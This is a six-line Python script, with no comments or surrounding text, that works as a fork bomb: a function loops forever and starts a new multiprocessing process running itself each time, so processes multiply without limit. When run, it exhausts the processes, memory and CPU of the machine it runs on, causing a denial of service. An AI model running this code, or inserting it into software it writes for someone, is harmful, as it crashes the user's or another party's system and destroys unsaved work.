import multiprocessing as mp
def f():
    while True:
        mp.Process(target=f).start()
if __name__ == '__main__':
    f()
